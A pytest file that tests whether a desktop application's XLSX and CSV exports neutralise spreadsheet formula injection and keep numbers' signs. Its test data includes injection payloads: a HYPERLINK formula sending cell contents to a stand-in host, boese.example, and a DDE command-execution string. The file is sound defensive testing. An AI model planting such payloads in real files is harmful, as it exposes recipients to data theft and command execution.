"""Exports are safe to open: no text becomes a formula, numbers keep their sign, nothing is cut silently.

Every text field of a measure, of its children and of its extra columns gets text that a spreadsheet
would run (``=``, ``+``, ``-``, ``@``, tab, CR, an error code). The files come from ``ExportService``
(and from the command line over a real database) and are read back the way the recipients read them:
openpyxl (cell type and quote prefix), python-calamine (the value is the text), the raw sheet XML (no
formula but the annex's own sums) and the CSV text (OWASP: a leading apostrophe).
"""

from __future__ import annotations

import csv
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.cell.cell import ERROR_CODES
from python_calamine import CalamineWorkbook
from sqlalchemy import update

from gera_desktop.__main__ import main
from gera_desktop.domain.models import Massnahme
from gera_desktop.domain.records import BeteiligungData, MassnahmeData, MeilensteinData
from gera_desktop.excel.writing import MAX_CELL_TEXT, ExportError
from gera_desktop.persistence.database import Database
from gera_desktop.persistence.opening import open_database
from gera_desktop.services.export import ExportRequest, ExportService
from gera_desktop.services.massnahmen import MassnahmenService
from tests.records import measure

FORMULA_START = ("=", "+", "-", "@")
HOSTILE = (
    "=SUMME(A1:A9)",
    '=HYPERLINK("http://boese.example/?"&A1;"Details")',
    "=cmd|' /C calc'!A0",
    "+49 365 838-1200",
    "-5",
    "-Kürzung um 5 %",
    "@SUMME(1;2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
)
"""Text that Excel or LibreOffice would take as a formula, a number or an error value."""
STORABLE = tuple(t for t in HOSTILE if t == t.strip())
"""What a user can actually save (the form and the import trim leading tabs and line breaks)."""
TEXT_FIELDS = (
    *("titel", "federfuehrung", "kurzbeschreibung", "stadtteil", "partner", "ansprechpartner"),
    *("verstetigung", "wirkungsindikator", "zielwert", "bemerkung", "produkt", "drucksache"),
)
STAND = date(2024, 6, 30)


def hostile_measure(index: int, text: str) -> MassnahmeData:
    """A valid measure whose every free-text field, child text and extra column holds ``text``."""
    record = measure(f"F-{index:02d}", **dict.fromkeys(TEXT_FIELDS, text))
    record.zusatzspalten = {"Notiz": text, "Korrektur": -5, "Korrektur als Text": "-5", "Faktor": -2.5}
    record.meilensteine = [MeilensteinData(text, date(2024, 3, 1), bemerkung=text)]
    record.beteiligungen = [BeteiligungData(date(2024, 4, 1), "Workshop", ort=text, ergebnis=text)]
    record.finanzen = []
    return record


def hostile_records(texts: tuple[str, ...] = HOSTILE) -> list[MassnahmeData]:
    return [hostile_measure(i, text) for i, text in enumerate(texts, start=1)]


def as_read(text: str) -> str:
    """XML turns a CR into a line feed when the file is read; the text is otherwise untouched."""
    return text.replace("\r", "\n")


# --- reading the files back ---------------------------------------------------------------------------


def openpyxl_cells(path: Path) -> Iterator[Any]:
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def calamine_values(path: Path) -> list[Any]:
    workbook = CalamineWorkbook.from_path(str(path))
    return [
        value
        for name in workbook.sheet_names
        for row in workbook.get_sheet_by_name(name).to_python()
        for value in row
    ]


def formulas(path: Path) -> list[str]:
    """The text of every ``<f>`` element in the workbook's sheets."""
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        xml = "".join(archive.read(n).decode("utf-8") for n in sheets)
    return re.findall(r"<f(?:\s[^>]*)?>(.*?)</f>", xml) + re.findall(r"<f(?:\s[^>]*)?/>", xml)


def assert_texts_stay_text(path: Path, texts: tuple[str, ...], minimum: int) -> None:
    """Each text appears at least ``minimum`` times, always as a text cell, quoted where needed."""
    found = {as_read(t): 0 for t in texts}
    for cell in openpyxl_cells(path):
        if cell.value in found:
            found[cell.value] += 1
            assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
            if cell.value.startswith(FORMULA_START) or cell.value in ERROR_CODES:
                assert cell.quotePrefix, (cell.coordinate, cell.value)
    assert min(found.values()) >= minimum, found
    read = calamine_values(path)
    for text in found:
        assert read.count(text) == found[text], text


def export(db: Database, path: Path, records: list[MassnahmeData], request: ExportRequest) -> Path:
    return ExportService(db).export(path, records, request)


@pytest.fixture
def db(sqlite_url: str) -> Iterator[Database]:
    """The database the export service reads its settings from (the records are passed in)."""
    opened = open_database(sqlite_url)
    yield opened
    opened.dispose()


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """An empty folder for the exported files."""
    folder = tmp_path / "Export"
    folder.mkdir()
    return folder


# --- xlsx ---------------------------------------------------------------------------------------------


def test_the_liste_keeps_every_formula_like_text_as_text(db, out) -> None:
    path = export(db, out / "liste.xlsx", hostile_records(), ExportRequest("liste", stand=STAND))

    assert formulas(path) == []
    # 12 fields, the extra column, milestone name and remark, event place and result
    assert_texts_stay_text(path, HOSTILE, minimum=len(TEXT_FIELDS) + 5)


def test_the_annex_has_no_formula_but_its_own_sums(db, out) -> None:
    request = ExportRequest(
        "anlage", drucksache="=1+1", anlage_nr="@2", betreff="-Sachstand", intern=True, stand=STAND
    )
    path = export(db, out / "anlage.xlsx", hostile_records(), request)

    own = re.compile(r"^(SUM|SUMIF|COUNTIF|COUNTA)\(|^Anlage!|^[A-Z]+\d+[-+]")
    assert formulas(path), "die Anlage rechnet ihre Summen mit Formeln"
    assert all(own.match(f) for f in formulas(path)), formulas(path)
    assert not any(payload in f for f in formulas(path) for payload in ("1+1", "HYPERLINK", "cmd|", "A1:A9"))
    # Maßnahme, Federführung and Bemerkung (intern) per measure
    assert_texts_stay_text(path, HOSTILE, minimum=3)
    contacts = [c for c in openpyxl_cells(path) if isinstance(c.value, str) and "\n0365 838-1200" in c.value]
    assert [c.value.split("\n0365")[0] for c in contacts] == [as_read(text) for text in HOSTILE]
    for cell in contacts:  # the contact block (Ansprechpartner first) is text too, quoted where needed
        assert cell.data_type == "s"
        if cell.value.startswith(FORMULA_START):
            assert cell.quotePrefix, cell.value
    title = openpyxl.load_workbook(path)["Anlage"]["A2"]
    assert (title.value, title.data_type, title.quotePrefix) == ("-Sachstand", "s", True)


def test_numbers_in_extra_columns_keep_their_sign_and_text_stays_text(db, out) -> None:
    path = export(db, out / "liste.xlsx", hostile_records(("x",)), ExportRequest("liste"))

    sheet = openpyxl.load_workbook(path)["Maßnahmen"]
    headers = {cell.value: cell.column for cell in sheet[5]}
    cells = {h: sheet.cell(6, headers[h]) for h in ("Korrektur", "Korrektur als Text", "Faktor")}
    assert (cells["Korrektur"].value, cells["Korrektur"].data_type) == (-5, "n")
    assert (cells["Faktor"].value, cells["Faktor"].data_type) == (-2.5, "n")
    text = cells["Korrektur als Text"]
    assert (text.value, text.data_type, text.quotePrefix) == ("-5", "s", True)
    row = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Maßnahmen").to_python()[5]
    assert [row[headers[h] - 1] for h in ("Korrektur", "Korrektur als Text", "Faktor")] == [-5, "-5", -2.5]


# --- CSV ----------------------------------------------------------------------------------------------


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=";"))


NUMBER = re.compile(r"^-?\d+(,\d+)?$")


def test_csv_fields_that_a_spreadsheet_would_run_get_an_apostrophe(db, out) -> None:
    records = hostile_records()
    path = export(db, out / "daten.csv", records, ExportRequest("csv"))

    rows = csv_rows(path)
    assert [r["Maßnahme"] for r in rows] == ["'" + t for t in HOSTILE]  # also the error value #N/A
    for row in rows:
        for header, value in row.items():
            if not NUMBER.match(value):
                assert not value.startswith((*FORMULA_START, "\t", "\r")), (header, value)


def test_csv_numbers_keep_their_sign(db, out) -> None:
    record = replace(hostile_measure(1, "x"), drittmittel=Decimal("-5.00"), fortschritt=Decimal("-2.5"))
    path = export(db, out / "daten.csv", [record], ExportRequest("csv"))

    row = csv_rows(path)[0]
    assert (row["Drittmittel (€)"], row["Fortschritt (%)"]) == ("-5,00", "-2,5")


# --- over-long text -----------------------------------------------------------------------------------


TOO_LONG = "x" * (MAX_CELL_TEXT + 1)


def too_long(where: str) -> MassnahmeData:
    record = hostile_measure(7, "kurz")
    if where == "zusatzspalte":
        record.zusatzspalten["Notiz"] = TOO_LONG
    elif where == "meilenstein":
        record.meilensteine[0].bemerkung = TOO_LONG
    else:
        setattr(record, where, TOO_LONG)
    return record


@pytest.mark.parametrize(
    ("layout", "where", "header"),
    [
        ("liste", "titel", "Maßnahme"),
        ("liste", "kurzbeschreibung", "Kurzbeschreibung"),
        ("liste", "zusatzspalte", "Notiz"),
        ("liste", "meilenstein", "Bemerkung"),
        ("anlage", "titel", "Maßnahme"),
        ("anlage", "bemerkung", "Bemerkungen"),
        ("csv", "kurzbeschreibung", "Kurzbeschreibung"),
    ],
)
def test_over_long_text_is_an_error_naming_measure_and_field(db, out, layout, where, header):
    path = out / ("daten.csv" if layout == "csv" else "export.xlsx")
    path.write_bytes(b"die alte Datei")
    request = ExportRequest(layout, drucksache="12/2024", intern=True)

    with pytest.raises(ExportError) as refused:
        export(db, path, [hostile_measure(1, "kurz"), too_long(where)], request)

    assert "F-07" in refused.value.message
    assert f"„{header}“" in refused.value.message
    assert "32.768" in refused.value.message
    assert "32.767" in refused.value.message
    assert path.read_bytes() == b"die alte Datei"
    assert [p.name for p in out.iterdir()] == [path.name]


@pytest.mark.parametrize("layout", ["liste", "anlage", "csv"])
def test_text_of_exactly_the_cell_limit_is_written_whole(db, out, layout) -> None:
    full = "ä" * (MAX_CELL_TEXT - 1) + "="
    record = replace(hostile_measure(1, "kurz"), titel=full)
    path = out / ("daten.csv" if layout == "csv" else "export.xlsx")

    export(db, path, [record], ExportRequest(layout, drucksache="12/2024"))

    if layout == "csv":
        assert csv_rows(path)[0]["Maßnahme"] == full
    else:
        assert full in calamine_values(path)


# --- through the command line, from a real database ---------------------------------------------------


@pytest.fixture
def stored(database: Database) -> Database:
    """Every text a user can save that looks like a formula, saved through the service."""
    service = MassnahmenService(database, user="anna")
    for record in hostile_records(STORABLE):
        service.create(replace(record, ansprechpartner=None))
    return database


def cli_export(db: Database, path: Path, *options: str) -> int:
    return main(["export", str(path), "--db", db.url, *options])


def test_the_command_line_exports_stored_formula_text_as_text(stored, tmp_path) -> None:
    liste, anlage, daten = tmp_path / "liste.xlsx", tmp_path / "anlage.xlsx", tmp_path / "daten.csv"

    assert cli_export(stored, liste) == 0
    assert cli_export(stored, anlage, "--layout", "anlage", "--drucksache", "=1+1", "--intern") == 0
    assert cli_export(stored, daten) == 0

    assert formulas(liste) == []
    assert_texts_stay_text(liste, STORABLE, minimum=len(TEXT_FIELDS) + 4)
    assert_texts_stay_text(anlage, STORABLE, minimum=3)
    assert all(r["Maßnahme"] in {"'" + t for t in STORABLE} | {"#N/A"} for r in csv_rows(daten))


def test_the_command_line_refuses_over_long_stored_text(stored, tmp_path, capsys) -> None:
    """Text from before the length check (or written by another tool) is not cut: the export stops."""
    with stored.write_session() as session:
        session.execute(update(Massnahme).where(Massnahme.nr == "F-03").values(bemerkung=TOO_LONG))
    target = tmp_path / "liste.xlsx"

    assert cli_export(stored, target) == 1

    message = capsys.readouterr().err
    assert "F-03" in message
    assert "„Bemerkungen“" in message
    assert not target.exists()
